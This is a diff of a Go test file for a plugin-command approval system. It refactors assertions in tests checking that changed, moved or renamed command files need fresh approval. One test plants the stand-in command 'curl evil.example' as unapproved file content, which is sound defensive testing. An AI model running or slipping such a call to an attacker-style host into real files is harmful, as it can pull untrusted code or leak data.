@@ -164,9 +164,8 @@ func TestAChangedFileNeedsAnotherApproval(t *testing.T) {
 			g.approve(t, c)
 			visible(t, c) // every cache has the approved texts
 			putFile(t, fsys, tt.file, "curl evil.example")
-			if got := visible(t, c); strings.Contains(got, "evil") || strings.Contains(got, tt.hidden+" ") {
-				t.Errorf("a changed entry is visible:\n%s", got)
-			}
+			got := visible(t, c)
+			must.NotContain(t, "visible", got, "evil", tt.hidden+" ")
 			must.Match(t, "pending", []string{tt.pending}, g.approve(t, c))
 			putFile(t, fsys, tt.file, gatedFiles[tt.file])
 			if gatedFiles[tt.file] == "" {
@@ -587,9 +586,8 @@ func TestARefusedManifestHidesThePluginWithAllEntries(t *testing.T) {
 			g.items.Store(p.Item, true)
 		}
 	}
-	if want := []string{"plugin deploy", "plugin review", "plugin far"}; !slices.Equal(kinds[:3], want) || len(kinds) != 12 {
-		t.Errorf("pending: %q", kinds)
-	}
+	must.Match(t, "pending", []string{"plugin deploy", "plugin review", "plugin far"}, kinds[:3])
+	must.Len(t, "pending", 12, kinds)
 	check("without the manifests", nil)
 	must.Len(t, "pending after the approval of the entries", 3, g.approve(t, c))
 	check("after the approval of all", all)
@@ -602,9 +600,7 @@ func TestARefusedManifestHidesThePluginWithAllEntries(t *testing.T) {
 		text := marketplace()[tt.file]
 		putFile(t, fsys, tt.file, strings.Replace(text, tt.from, tt.to, 1))
 		if tt.refused == "deploy" {
-			if got, err := c.Get(t.Context(), "deploy:go"); !errors.Is(err, toolshelf.ErrCommandNotFound) {
-				t.Errorf("%s: got %q, %v", tt.to, got.Content, err)
-			}
+			must.Fail(c.Get(t.Context(), "deploy:go"))(t, tt.to, toolshelf.ErrCommandNotFound)
 		}
 		check(tt.to, without(tt.refused))
 		pending, err := c.Pending(t.Context())
@@ -637,9 +633,7 @@ func TestAMovedManifestNeedsAnotherApproval(t *testing.T) {
 		must.Len(t, from, 0, must.Get(c.Expand(t.Context(), "/p:go"))(t).Directives)
 		putFile(t, fsys, to, files[from])
 		must.Do(t, fsys.Remove(from))
-		if x, err := c.Expand(t.Context(), "/p:go"); !errors.Is(err, toolshelf.ErrCommandNotFound) {
-			t.Errorf("%s: %+v, %v", to, x.Directives, err)
-		}
+		must.Fail(c.Expand(t.Context(), "/p:go"))(t, "Expand", toolshelf.ErrCommandNotFound)
 		must.Match(t, to, []string{"plugin p", "command p:go"}, g.approve(t, c))
 	}
 }
@@ -653,9 +647,7 @@ func TestARenamedCommandOfAnotherFormatNeedsAnotherApproval(t *testing.T) {
 		t.Fatalf("%+v, %v", x.Rendering, err)
 	}
 	must.Do(t, fsys.Rename("/p/.qwen/commands/a.md", "/p/.qwen/commands/a.toml"))
-	if x, err := c.Expand(t.Context(), "/a"); !errors.Is(err, toolshelf.ErrCommandNotFound) {
-		t.Errorf("%+v, %v", x.Rendering, err)
-	}
+	must.Fail(c.Expand(t.Context(), "/a"))(t, "Expand", toolshelf.ErrCommandNotFound)
 	g.approve(t, c)
 	must.Equal(t, "after the approval", "Run !{id}.", must.Get(c.Expand(t.Context(), "/a"))(t).Text)
 }
